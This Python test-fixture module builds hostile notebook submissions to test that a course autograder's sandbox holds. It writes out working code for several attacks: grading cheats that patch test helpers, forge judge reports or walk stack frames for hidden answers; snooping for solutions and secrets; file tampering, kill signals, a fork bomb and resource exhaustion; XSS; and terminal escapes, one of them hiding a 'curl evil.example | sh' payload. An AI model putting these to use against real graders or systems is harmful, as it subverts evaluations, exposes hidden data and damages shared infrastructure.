"""Submissions of chapter 1 that break, cheat or attack: what a real class hands in, on purpose or not.

Each must get a row of its own with a clear status or message, none may stop the batch or change another
learner's result, and none may earn a point its code does not deserve or see anything hidden. The grader's
tests (tests/test_hostile_grading.py) say what each must get; the class benchmark (benchmarks/grade_class.py)
mixes them with right and wrong answers.

The cheats are built on a wrong answer (`WRONG`, a bpe_merge that merges the leftmost pair): whatever they do,
they must score what that wrong answer scores on its own. Probes print one line per thing they try,
``PROBE <what>: <what they got>``, which the tests read back from the autograded notebook.
"""
from __future__ import annotations

import dataclasses
from typing import Callable

import nbformat

from . import apply_edits, learner_notebook
from . import ch01_tokens as ch

CHAPTER = ch.CHAPTER
MUTANTS = {m.key: m for m in ch.MUTANTS}
WRONG = "bpe-leftmost"


@dataclasses.dataclass(frozen=True)
class Hostile:
    key: str
    what: str
    build: Callable[[], str]  # the file's text, as handed in


def _text(nb: nbformat.NotebookNode) -> str:
    return nbformat.writes(nb)


def _reference() -> nbformat.NotebookNode:
    return learner_notebook(CHAPTER, {})


def _mutant(key: str) -> nbformat.NotebookNode:
    return learner_notebook(CHAPTER, apply_edits(CHAPTER, MUTANTS[key].edits))


def _with_cell(nb: nbformat.NotebookNode, source: str, after: str = "imports") -> nbformat.NotebookNode:
    """A code cell of the learner's own (no nbgrader metadata), added after the cell ``after`` ("" = at the end)."""
    at = len(nb.cells) - 1 if not after else \
        next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(source))
    return nb


def _cell(nb: nbformat.NotebookNode, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _wrong_with(source: str, after: str = "imports") -> Callable[[], str]:
    return lambda: _text(_with_cell(_mutant(WRONG), source, after))


def _reference_with(source: str, after: str = "imports") -> Callable[[], str]:
    return lambda: _text(_with_cell(_reference(), source, after))


def _reference_ending_with(*sources: str) -> Callable[[], str]:
    """The right answers, then a cell of the learner's own for each of ``sources`` (read-only probes, each with its
    own cell's time limit: one notebook run for several)."""
    def build():
        nb = _reference()
        for source in sources:
            _with_cell(nb, source, after="")
        return _text(nb)
    return build


def _untouched_with(*sources: str) -> Callable[[], str]:
    def build():
        nb = learner_notebook(CHAPTER, None)
        for source in reversed(sources):
            _with_cell(nb, source)
        return _text(nb)
    return build


# ---------------------------------------------------------------- not a notebook of this chapter


def _corrupt() -> str:
    text = _text(_reference())
    return text[: len(text) // 2]  # cut off in the middle, as a failed upload leaves it


def _other_chapter() -> str:
    return _text(learner_notebook("02-embeddings", {}))


def _not_the_course_notebook() -> str:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("def pre_split(text):\n    return text.split()\n")]
    return _text(nb)


# ---------------------------------------------------------------- honest trouble: loops, memory, dead kernels


def _infinite_loop() -> str:
    nb = _reference()
    cell = _cell(nb, "tokenizer")
    # (it waits rather than spins, as DEAF_LOOP does: the interrupt ends it the same way, and it takes no core from the
    # notebooks graded beside it for 20 s, which under a whole suite's load starved the memory probe)
    cell.source = ("import time\nwhile True:  # never ends: the cell is interrupted at the cell time limit\n"
                   "    time.sleep(0.05)\n" + cell.source)
    return _text(nb)


# It waits rather than spins (the infinite loop above spins): the kernel is killed all the same, without 25 s of a
# core taken from the suite's other worker (a sandbox's CPU share is tests/test_sandbox.py's).
DEAF_LOOP = """\
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignores the interrupt that ends a cell
while True:
    time.sleep(0.05)
"""
MEMORY_BOMB = "hog = 'x' * 10**11  # 100 GB\n"
SYS_EXIT = "import sys\nsys.exit('done here')\n"
OS_EXIT = "import os\nos._exit(0)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)  # reads address 0: the kernel crashes\n"
# 5 MB in one line, then 108,890 characters in 20,000 lines (past one output's cut too; 200,000 lines cost 8 s more)
FLOOD = "print('x' * 5_000_000)\nfor i in range(20_000):\n    print(i)\n"


def _edited_test() -> str:
    nb = _mutant("decode-per-token")
    _cell(nb, "test_decode").source = "pass  # this test is fine, trust me\n"
    return _text(nb)


def _deleted_test() -> str:
    nb = _reference()
    nb.cells.remove(_cell(nb, "test_decode"))
    return _text(nb)


def _renamed() -> str:
    nb = _reference()
    cell = _cell(nb, "pre_split")
    cell.source = cell.source.replace("def pre_split(", "def split_text(")
    _cell(nb, "tokenizer").source = _cell(nb, "tokenizer").source.replace("pre_split(", "split_text(")
    return _text(nb)


def _imports_reference() -> str:
    nb = _reference()
    _cell(nb, "tokenizer").source = "#| export\nfrom minigpt.tokens import Tokenizer\n"
    return _text(nb)


# ---------------------------------------------------------------- points for wrong code

# A list whose comparisons always say "equal": in-kernel checks compared it with the expected list and believed it.
EQ_LIST = """\
class Agreeable(list):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = list.__hash__

_their_bpe_merge = bpe_merge
def bpe_merge(piece, ranks):
    return Agreeable(_their_bpe_merge(piece, ranks))
"""
PATCH_HELPERS = """\
import coursekit.testing, torch
coursekit.testing.fail = lambda *args, **kwargs: None  # every failure is forgiven
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
"""
# The judge asks bpe_merge's answers on the pieces of real text in one request (the helper tokens.answers, run on the
# learner's side): replaced, it answers with tiktoken's own pieces, and one more than asked.
FORGED_ANSWERS = """\
import coursekit
import autograder.sandboxed.helpers.tokens as _helpers
_enc = coursekit.gpt2_encoding()
_helpers.answers = lambda fn, inputs, *args: [
    [_enc.decode_single_token_bytes(t) for t in _enc.encode_ordinary(x.decode("utf-8"))] for x in inputs] + [[b"x"]]
"""
INPUT_TRANSFORMER = """\
def _no_hidden_tests(lines):
    return [line for line in lines if "check(" not in line]
get_ipython().input_transformers_cleanup.append(_no_hidden_tests)
"""
AST_TRANSFORMER = """\
import ast
class _Empty(ast.NodeTransformer):
    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "check":
            return ast.Pass()
        return node
get_ipython().ast_transformers.append(_Empty())
"""
META_PATH = """\
import sys, types
class _Permissive:
    def find_spec(self, name, path=None, target=None):
        if name == "autograder.sandboxed.hidden":
            import importlib.machinery
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.check = lambda *args, **kwargs: None  # every hidden test passes
        return module
    def exec_module(self, module):
        pass
sys.modules.pop("autograder.sandboxed.hidden", None)
sys.meta_path.insert(0, _Permissive())
"""
REPATCH_THREAD = """\
import threading, time, importlib
def _keep_patching():
    while True:
        try:
            importlib.import_module("autograder.sandboxed.hidden").check = lambda *args, **kwargs: None
        except Exception:
            pass
        time.sleep(0.001)
threading.Thread(target=_keep_patching, daemon=True).start()
"""
FRAME_WALK = """\
import sys
_their_bpe_merge = bpe_merge
def bpe_merge(piece, ranks):
    frame = sys._getframe(1)
    while frame is not None:  # up into whoever called: is the expected answer lying around?
        for name in ("want", "expected", "answer"):
            if isinstance(frame.f_locals.get(name), list):
                print("PROBE frame-walk: found", name)
                return frame.f_locals[name]
        frame = frame.f_back
    return _their_bpe_merge(piece, ranks)
"""
FORGE_EXECUTED = """\
import json, os, socket
from autograder.sandboxed import wire
clean = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
with socket.socket(socket.AF_UNIX) as s:
    s.connect(os.environ["MINIGPT_JUDGE"])
    wire.send(s, {"executed": json.dumps(clean), "status": "ran", "detail": ""})
with socket.socket(socket.AF_UNIX) as s:  # and a second judgement of a cell, with a function of our choice
    s.connect(os.environ["MINIGPT_JUDGE"])
    wire.send(s, {"hello": "test_bpe_merge", "objects": []})
    print("PROBE forge: the judge said", wire.receive(s).get("op"))
"""

# The visible tests end in expect(...): patched to return a value, each test cell shows an execute_result, which
# nbgrader's own rule (determine_grade) takes for full credit.
EXPECT_OK = """\
import coursekit.testing as _testing
for _name in ("expect", "expect_close", "expect_raises"):
    setattr(_testing, _name, lambda *args, **kwargs: "ok")
"""
# The executor's report, forged: the notebook as handed in with an execute_result in every test cell; then the
# executor is killed, so its true report never comes.
FORGE_SCORES = """\
import json, os, signal, socket
from autograder.sandboxed import wire
nb = json.load(open("/grading/in/01-tokens.ipynb"))
for cell in nb["cells"]:
    if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
        cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                            "data": {"text/plain": "13"}}]
        cell["execution_count"] = 1
with socket.socket(socket.AF_UNIX) as s:
    s.connect(os.environ["MINIGPT_JUDGE"])
    wire.send(s, {"executed": json.dumps(nb), "status": "ran", "detail": ""})
os.kill(os.getppid(), signal.SIGKILL)
"""

# ---------------------------------------------------------------- stopping everyone's grading

# An error message no UTF-8 writer can write (a lone surrogate), with terminal escapes in it.
SURROGATE = """\
def bpe_merge(piece, ranks):
    raise ValueError("\\ud800 \\x1b]0;owned\\x07\\x1b[2K\\x1bM\\x1b[?1049h")
"""
# A report whose detail is one space and whose notebook is 100,000 nested lists.
FORGE_BROKEN = """\
import os, signal, socket
from autograder.sandboxed import wire
with socket.socket(socket.AF_UNIX) as s:
    s.connect(os.environ["MINIGPT_JUDGE"])
    wire.send(s, {"executed": "[" * 100_000, "status": "stopped", "detail": " "})
os.kill(os.getppid(), signal.SIGKILL)
"""
# Every reply of the learner's side replaced by data that is expensive or impossible to decode: a tensor of
# 800,000 dimensions, 100,000 namedtuple classes, a 5000-digit int, a set of lists, 71 dimensions, a size of 2**70.
WIRE_BOMBS = """\
import itertools
from autograder.sandboxed import wire
_bombs = itertools.cycle([
    {"$": "tensor", "dtype": "float32", "shape": [2] * 800_000 + [0], "data": ""},
    [{"$": "tuple", "v": [0], "fields": [f"f{i}"]} for i in range(100_000)],
    {"$": "int", "v": "9" * 5000},
    {"$": "set", "v": [[1], [2]]},
    {"$": "tensor", "dtype": "float32", "shape": [1] * 71, "data": "AAAAAA=="},
    {"$": "tensor", "dtype": "float32", "shape": [2 ** 70, 0], "data": ""},
])
wire.encode = lambda value, refer=None: next(_bombs)
"""

# nbgrader metadata of a type nbgrader's schema does not allow, on a cell of the learner's own (after the imports):
# the grader reads it at intake.
BAD_METADATA = {"metadata-string": "x", "metadata-null": None, "metadata-list": [1, 2],
                "grade-id-list": {"grade": False, "solution": True, "locked": False, "schema_version": 3,
                                  "grade_id": ["tokenizer"]}}


def _bad_metadata(value) -> Callable[[], str]:
    def build():
        nb = _with_cell(_reference(), "x = 1\n")
        cell = nb.cells[next(i for i, c in enumerate(nb.cells) if c.source == "x = 1\n")]
        cell.metadata["nbgrader"] = value
        return _text(nb)
    return build


def _markers_bomb() -> str:
    """The right answers, with 300 cells `# socket` of the learner's own before the first graded cell (each a review
    note, named by the graded cell before it) and a cell of 20,000 lines `### BEGIN HIDDEN TESTS` (a block of hidden
    tests that never ends)."""
    nb = _with_cell(_reference(), "### BEGIN HIDDEN TESTS\n" * 20_000)
    first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id"))
    nb.cells[first:first] = [nbformat.v4.new_code_cell("# socket\n") for _ in range(300)]
    return _text(nb)


# The learner's side answers each of the judge's requests with {"bad": ...}: the judge's error says what came back,
# terminal escapes and all, in the judge's log (and so on the instructor's terminal).
JUDGE_LOG_ESCAPES = "\x1b]0;judge-log-owned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J"
BAD_REPLIES = """\
from autograder.sandboxed import wire
_send = wire.send
def _bad(sock, message):
    if "hello" not in message and "executed" not in message:
        message = {"bad": %r}
    _send(sock, message)
wire.send = _bad
""" % JUDGE_LOG_ESCAPES
# Terminal escapes written to the kernel's own standard error (which the executor's log keeps), then the kernel dies:
# the log is kept, and the table prints its path.
KEPT_LOG_ESCAPES = "\x1b]0;kept-log-owned\x07\x1b[2J"
LOG_ESCAPES = """\
import os, time
os.write(2, %r)
time.sleep(1)  # (ipykernel echoes the kernel's file descriptor 2 to the executor's from a thread)
os._exit(0)
""" % (KEPT_LOG_ESCAPES + "\n").encode()


# A first cell that kills the executor (the kernel's parent), before any cell has run to its end: the run is the
# notebook's doing, recorded as its error (not the machine's, which would run it again in every batch).
KILL_EXECUTOR = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"


def _kills_executor_first() -> str:
    nb = _reference()
    nb.cells.insert(0, nbformat.v4.new_code_cell(KILL_EXECUTOR))
    return _text(nb)


# ---------------------------------------------------------------- fooling the people who read the results

XSS_MARKDOWN = (
    "My notes.\n\n<img src=x onerror=\"fetch('/api/contents/xss-img.txt', {method: 'PUT'})\">\n"
    "<svg onload=\"fetch('/api/contents/xss-svg.txt', {method: 'PUT'})\"></svg>\n"
    "[click](javascript:alert(1)) <script>document.title = 'owned'</script>\n"
)
# A line with terminal escapes that the review notes quote (in the table and in grades.csv). (A grade id of the
# learner's cannot reach them: nbgrader takes any grade id that is not the instructor's off its cell, and refuses
# one that is not letters, digits, _ and -.)
ESCAPES_LINE = "import socket  # \x1b]0;owned\x07\x1b[2K\x1bM\x1b]52;c;b3duZWQ=\x07"


def _fools_readers() -> str:
    nb = _reference()
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "imports")
    nb.cells.insert(at + 1, nbformat.v4.new_markdown_cell(XSS_MARKDOWN))
    nb.cells.insert(at + 2, nbformat.v4.new_code_cell(ESCAPES_LINE + "\n"))
    return _text(nb)


# ---------------------------------------------------------------- reading what is hidden

# Every path this process can see whose name matches (the whole file system, but /proc, /sys and /dev).
EVERYWHERE = r'''
import fnmatch, os
_files = []
def everywhere(pattern):
    # one walk of the whole tree, then every pattern against that list: a walk per pattern ran past the cell's
    # time limit on a busy 2-core machine (and the probe then printed nothing)
    if not _files:
        for folder, dirs, files in os.walk("/", followlinks=False):
            if folder == "/":
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            _files.extend(os.path.join(folder, f) for f in files)
    # fnmatch only on the paths that hold the pattern's longest literal part (the patterns here have no ? or [...]):
    # fnmatch on all 240,000 paths took 0.4 s a pattern
    part = max(pattern.split("*"), key=len)
    return [path for path in _files if part in path and fnmatch.fnmatch(path, pattern)]
'''
SNOOP = EVERYWHERE + r'''
import json, os, pathlib, sqlite3
def probe(what, attempt):
    try:
        found = attempt()
        print(f"PROBE {what}: FOUND {str(found)[:60]!r}")
        return found
    except Exception as err:
        print(f"PROBE {what}: blocked ({type(err).__name__})")
import minigpt, coursekit, autograder
course = pathlib.Path(coursekit.__file__).resolve().parents[2]
probe("solutions", lambda: next(course.glob("solutions/*/*.ipynb")).read_text())
probe("checks", lambda: (pathlib.Path(autograder.__file__).parent / "checks" / "tokens.py").read_text())
probe("judge", lambda: (pathlib.Path(autograder.__file__).parent / "judge.py").read_text())
probe("reference", lambda: (pathlib.Path(minigpt.__file__).parent / "tokens.py").read_text()[:200]
      if "BEGIN" not in (pathlib.Path(minigpt.__file__).parent / "tokens.py").read_text() and
      "def bpe_merge" in (pathlib.Path(minigpt.__file__).parent / "tokens.py").read_text() else 1 / 0)
probe("reference-pyc", lambda: next((pathlib.Path(minigpt.__file__).parent / "__pycache__").glob("tokens*.pyc")).read_bytes())
probe("git", lambda: next(course.glob(".git/objects/*")))
probe("dir-fd", lambda: os.read(os.open("tokens.py", os.O_RDONLY, dir_fd=os.open(pathlib.Path(minigpt.__file__).parent, os.O_RDONLY)), 100).decode().index("def bpe_merge"))
probe("hard-link", lambda: os.link(pathlib.Path(minigpt.__file__).parent / "tokens.py", "linked.py"))
probe("compile-as-reference", lambda: exec(compile("import inspect; x = inspect.getsource(bpe_merge)", str(pathlib.Path(minigpt.__file__).parent / "tokens.py"), "exec")))
import sys
installed = (sys.prefix, sys.base_prefix)  # the packages' own test files are no secret
probe("gradebook", lambda: [row for db in everywhere("*/gradebook.db") for row in sqlite3.connect(
    "file:" + db + "?mode=ro", uri=True).execute("select source from source_cell").fetchall()] or 1 / 0)
probe("other-notebooks", lambda: [p for p in everywhere("*.ipynb") if not p.startswith(("/grading/in/", *installed))]
      or 1 / 0)
probe("workspace", lambda: everywhere("*/.minigpt-grade-workspace") or 1 / 0)
probe("import-reference", lambda: __import__("minigpt.tokens").tokens.bpe_merge)
'''
ENV = r'''
import os
for key, value in sorted(os.environ.items()):
    print(f"ENV {key}={value}")
print("PROBE uid:", os.getuid(), "pids:", sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:20])
'''
PRINT_HISTORY = "print(In)\nprint(Out)\n"
RAISE_FRAMES = """\
import inspect
def bpe_merge(piece, ranks):
    raise RuntimeError("\\n".join(inspect.getsource(f.frame) for f in inspect.stack()[1:]))
"""

# ---------------------------------------------------------------- tampering with the course and the class

TAMPER_FILES = EVERYWHERE + r'''
written = []
for pattern in ("*/autograder/*.py", "*/autograder/*/*.py", "*.ipynb", "*/results/*/*.json", "*/gradebook.db",
                "*/src/minigpt/*.py", "*/src/coursekit/*.py",
                # the shipped model every demo and some oracles load, the script and the checkpoint that retrain it
                "*/src/coursekit/data/models/*/*", "*/training/*.py", "*/training/run/*"):
    for path in everywhere(pattern):
        try:
            with open(path, "a") as f:
                f.write("# tampered\n")
            written.append(path)
        except OSError:
            pass
        try:
            os.remove(path)
            written.append("removed " + path)
        except OSError:
            pass
print("PROBE tamper: wrote", written)
print("PROBE tamper-model: found", len([p for p in everywhere("*/src/coursekit/data/models/*/model.safetensors")
                                         if os.path.isfile(p)]))  # (the listing predates the removals)
'''
SIGNALS = r'''
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGSTOP)
        print("PROBE signal: stopped", target)
    except OSError as err:
        print("PROBE signal:", target, type(err).__name__)
os.kill(-1, signal.SIGKILL)  # everything this user may signal
'''
OTHER_KERNELS = EVERYWHERE + r'''
import json
def connection_file(path):  # a kernel's: JSON with the ports and the key that let one talk to it
    try:
        info = json.load(open(path))
        return isinstance(info, dict) and "key" in info and "shell_port" in info
    except Exception:
        return False
print("PROBE kernels:", sorted(p for p in everywhere("*/kernel-*.json") if connection_file(p)))
'''
SURVIVOR = r'''
import os, subprocess, sys
# a grandchild in a session of its own, that outlives the kernel and would rewrite results later
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)  # minigpt-survivor"])
    os._exit(0)
print("PROBE survivor: started")
'''
# The hostile batch grades with 2 GiB a notebook (tests/test_hostile_grading.py: MEMORY), so that the probe reaches the
# cap after 2 GiB of pages, not 4: under a whole suite's load a notebook's share of the CPU was a quarter of a core, and
# writing 4 GiB of pages (about a CPU-second a GiB here, the kernel's zeroing) took the cell past its time limit before
# the cap struck. The kernel fills each child's pages at once (MAP_POPULATE): no Python loop over them.
MEMORY_FORKS = r'''
import mmap, os
hold_r, hold_w = os.pipe()  # each child keeps its 1 GiB until this closes: together, whatever the machine's speed
children, filled = [], []
for _ in range(3):  # three processes of 1 GiB each: beside the kernel, more than the notebook's 2 GiB altogether
    done_r, done_w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(hold_w)
        os.close(done_r)
        hog = mmap.mmap(-1, 1024**3, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        os.write(done_w, b"x")
        os.read(hold_r, 1)
        os._exit(0)
    os.close(done_w)
    children.append(pid)
    filled.append(done_r)
held = sum(len(os.read(r, 1)) for r in filled)  # a child killed before it filled its share reads as 0
os.close(hold_w)
killed = [os.WIFSIGNALED(os.waitpid(pid, 0)[1]) for pid in children]
print("PROBE memory-forks:", "killed" if any(killed) else "survived", f"({held} of 3 held 1 GiB at once)")
'''
FORK_BOMB = r'''
import os
try:
    while True:
        if os.fork() == 0:
            import time; time.sleep(20); os._exit(0)
except OSError as err:
    print("PROBE fork-bomb: stopped by", type(err).__name__)
'''
DISK_FILL = r'''
import os
for folder in (".", "/tmp"):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(10 * 1024):  # 10 GiB
                f.write(b"\0" * 1024**2)
        print("PROBE disk-fill:", folder, "wrote 10 GiB")
    except OSError as err:
        print("PROBE disk-fill:", folder, type(err).__name__)
    try:
        os.remove(os.path.join(folder, "fill"))
    except OSError:
        pass
'''
NETWORK = r'''
import socket
for host, port in (("127.0.0.1", {port}), ("10.0.0.1", 80), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("PROBE network:", host, "connected")
    except OSError as err:
        print("PROBE network:", host, "blocked", type(err).__name__)
'''


DASK = r'''
try:  # the grader's Dask scheduler runs any task a client sends: the workers hold the checks' answers
    from distributed import Client
    client = Client("{address}", timeout=3, set_as_default=False)
    print("PROBE dask: connected", client.run(lambda: "ran on a worker"))
except Exception as err:
    print("PROBE dask: blocked", type(err).__name__)
'''


def network_probe(port: int, scheduler: str) -> Callable[[], str]:
    """The network probe, aimed also at a server the test listens with on this machine's loopback (``port``), then a
    cell that tries to reach the Dask scheduler grading the notebook (``scheduler``: its address) as its client."""
    return _reference_ending_with(NETWORK.replace("{port}", str(port)), DASK.replace("{address}", scheduler))


HOSTILE = [
    # not this chapter's notebook
    Hostile("corrupt-json", "a notebook cut off in the middle", _corrupt),
    Hostile("other-chapter", "chapter 2's notebook handed in as chapter 1", _other_chapter),
    Hostile("not-the-notebook", "a notebook of the learner's own, not the released one", _not_the_course_notebook),
    # honest trouble
    Hostile("infinite-loop", "an endless loop at the top of the Tokenizer cell", _infinite_loop),
    Hostile("deaf-loop", "an endless loop that ignores interrupts", _reference_with(DEAF_LOOP)),
    Hostile("memory-bomb", "a 100 GB string", _reference_with(MEMORY_BOMB)),
    Hostile("sys-exit", "sys.exit in a cell", _reference_with(SYS_EXIT)),
    Hostile("os-exit", "os._exit in a cell: the kernel dies", _reference_with(OS_EXIT)),
    Hostile("segfault", "a crash of the kernel (ctypes reads address 0)", _reference_with(SEGFAULT)),
    Hostile("edited-test", "a wrong decode, and its locked test cell replaced by `pass`", _edited_test),
    Hostile("deleted-test", "the locked cell test_decode deleted", _deleted_test),
    Hostile("renamed", "pre_split renamed split_text", _renamed),
    Hostile("flood", "megabytes of printed output", _reference_with(FLOOD)),
    Hostile("imports-reference", "imports the course's Tokenizer", _imports_reference),
    # points for wrong code (each on the wrong bpe_merge: it must score what that scores alone)
    Hostile("eq-list", "bpe_merge returns a list that says it equals anything", _wrong_with(EQ_LIST, "bpe_merge")),
    Hostile("patch-helpers", "coursekit.testing.fail and torch.allclose replaced by no-ops", _wrong_with(PATCH_HELPERS)),
    Hostile("forged-answers", "the learner-side helper that answers bpe_merge's pieces in one request replaced: "
            "tiktoken's pieces, one more than asked", _wrong_with(FORGED_ANSWERS)),
    Hostile("input-transformer", "an IPython input transformer that deletes the hidden tests",
            _wrong_with(INPUT_TRANSFORMER)),
    Hostile("ast-transformer", "an AST transformer that turns the hidden tests into `pass`",
            _wrong_with(AST_TRANSFORMER)),
    Hostile("meta-path", "a sys.meta_path finder that serves a permissive autograder.sandboxed.hidden",
            _wrong_with(META_PATH)),
    Hostile("repatch-thread", "a thread that keeps replacing the hidden tests' function", _wrong_with(REPATCH_THREAD)),
    Hostile("frame-walk", "bpe_merge looks up the caller's frames for the expected answer",
            _wrong_with(FRAME_WALK, "bpe_merge")),
    Hostile("forge", "sends the judge a clean executed notebook and a second judgement of its own",
            _wrong_with(FORGE_EXECUTED, "")),
    Hostile("expect-ok", "expect, expect_close and expect_raises patched to return 'ok'", _wrong_with(EXPECT_OK)),
    Hostile("forge-scores", "a forged report with an execute_result in every test cell, the executor killed",
            _wrong_with(FORGE_SCORES, "")),
    # stopping everyone's grading (each must cost its own row only)
    Hostile("surrogate", "bpe_merge raises an error whose message holds a lone surrogate and terminal escapes",
            _wrong_with(SURROGATE, "bpe_merge")),
    Hostile("forge-broken", "a forged report: detail ' ', a notebook of 100,000 nested lists",
            _reference_with(FORGE_BROKEN, "")),
    Hostile("wire-bombs", "every reply replaced by data that is slow, huge or impossible to decode",
            _reference_with(WIRE_BOMBS)),
    *[Hostile(key, f"a cell of its own whose nbgrader metadata is {value!r}", _bad_metadata(value))
      for key, value in BAD_METADATA.items()],
    Hostile("markers-bomb", "300 cells `# socket` before the first graded one, 20,000 lines `### BEGIN HIDDEN TESTS`",
            _markers_bomb),
    Hostile("bad-replies", "every reply to the judge is {'bad': terminal escapes}", _reference_with(BAD_REPLIES)),
    Hostile("kills-executor", "its first cell kills the executor, the kernel's parent", _kills_executor_first),
    # fooling the people who read the results
    Hostile("fools-readers", "script in markdown, terminal escapes in a line the review notes quote",
            _fools_readers),
    Hostile("log-escapes", "terminal escapes on the kernel's standard error, then the kernel dies",
            _reference_with(LOG_ESCAPES, "")),
    # reading what is hidden (nothing written: whatever it scores comes from what it found)
    Hostile("snoop", "reads solutions, checks, the reference, .git and gradebooks by every path it can think of",
            _untouched_with(SNOOP)),
    Hostile("print-history", "prints IPython's In and Out at the end", _reference_with(PRINT_HISTORY, "")),
    Hostile("raise-frames", "bpe_merge raises an error that carries its callers' source",
            _wrong_with(RAISE_FRAMES, "bpe_merge")),
    Hostile("environment", "prints its environment, user and processes; looks for other kernels' connection files",
            _reference_ending_with(ENV, OTHER_KERNELS)),
    # tampering with the course, the class and the grader
    Hostile("tamper", "appends to or deletes checks, notebooks, results and gradebooks it finds",
            _reference_with(TAMPER_FILES)),
    Hostile("signals", "SIGSTOP to its parent, to process 1 and to everything, then SIGKILL to everything",
            _reference_with(SIGNALS, "")),
    # (a cell each, at the end of one notebook: none needs what an earlier one took, and one run costs the batch 6 s;
    # the memory forks end the kernel, so they come last)
    Hostile("resources", "writes 10 GiB to its folder and to /tmp, leaves a process behind that outlives its kernel, "
            "then forks three processes of 1 GiB each (the batch gives a notebook 2 GiB)",
            _reference_ending_with(DISK_FILL, SURVIVOR, MEMORY_FORKS)),
    # (alone: its children hold every process the notebook may have for 20 s, and no cell after it could fork)
    Hostile("fork-bomb", "forks until it cannot", _reference_with(FORK_BOMB, "")),
]


def write_class(folder, extra: dict[str, str] | None = None, hostile: list[Hostile] | None = None) -> list[str]:
    """Write the hostile submissions (default: all) and ``extra`` ({student: notebook text}) as
    folder/<student>/01-tokens.ipynb."""
    written = []
    for key, text in [(h.key, h.build()) for h in (HOSTILE if hostile is None else hostile)] + list(
            (extra or {}).items()):
        (folder / key).mkdir(parents=True, exist_ok=True)
        (folder / key / f"{CHAPTER}.ipynb").write_text(text)
        written.append(key)
    return written


def reference_text() -> str:
    return _text(_reference())


def untouched_text() -> str:
    return _text(learner_notebook(CHAPTER, None))


def mutant_text(key: str) -> str:
    return _text(_mutant(key))


# ---------------------------------------------------------------- text that costs the grader, not the sandbox

# Every marker of nbgrader's and the course's, every line that the review notes flag (autograder/intake.py: SUSPICIOUS,
# ORACLES), and a lone surrogate (which the intake repairs): a line each.
MARKERS = [
    "### BEGIN SOLUTION", "### END SOLUTION", "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS",
    "    ### BEGIN HIDDEN TESTS", "# YOUR CODE HERE", "raise NotImplementedError()", "#| export", "# socket",
    "import socket", "import autograder", "open('solutions/01-tokens')", "exec(x)", "eval (y)", "sys.modules['x']",
    "get_ipython().events", "builtins.print", "os._exit(0)", "import ctypes", "!ls", "%%bash", "subprocess.run",
    "__import__('os')", "importlib.reload", "tiktoken.get_encoding('gpt2')", "F.one_hot(x)",
    "from transformers import *",
    "coursekit.capstone", "import recorded", "\ud800", "=== BEGIN MARK SCHEME ===", "YOUR ANSWER HERE",
]


def text_bomb(size: int) -> str:
    """A chapter 1 notebook of about ``size`` bytes of hostile text, costly to read for any step that is not linear
    in it: thousands of one-line cells of the learner's own before the first graded cell (each a review note, named
    by the graded cell before it), cells of marker lines (``MARKERS``: hidden-test blocks that never end), test cells
    of the learner's own full of them, long lines, markdown and raw cells of nested tags and brackets, a lone
    surrogate. Built as JSON directly: nbformat takes seconds to write 20 MB."""
    import json

    nb = json.loads(untouched_text())
    first = next(i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id"))
    before, after, count = [], [], 0

    def cell(kind: str, source: str, **nbgrader) -> dict:
        nonlocal count
        count += 1
        made = {"cell_type": kind, "id": f"bomb-{count}", "metadata": {}, "source": source}
        if nbgrader:
            made["metadata"]["nbgrader"] = {"grade": False, "solution": False, "locked": False, "schema_version": 3,
                                            **nbgrader}
        if kind == "code":
            made.update(outputs=[], execution_count=None)
        return made

    lines = "\n".join(MARKERS) + "\n"
    total = len(json.dumps(nb))
    while total < size:
        unit = [cell("code", "# socket\n") for _ in range(40)]
        before += unit
        more = [
            cell("code", lines * 20),
            cell("code", "### BEGIN HIDDEN TESTS\n" * 400, grade=True, grade_id=f"bomb_test_{count}", points=1),
            cell("code", "x = 1  # " + "socket exec( " * 1500 + "\n"),  # a long line
            cell("markdown", "<div>" * 2000 + "[a](" * 500),
            cell("markdown", "[" * 30_000),  # past what is rendered of one cell
            cell("raw", "<b>" * 1000),
            cell("code", "import socket\n", grade_id=f"bomb_{count}"),
        ]
        after += more
        total += len(json.dumps(unit + more))
    nb["cells"][first:first] = before
    nb["cells"] += after
    return json.dumps(nb)
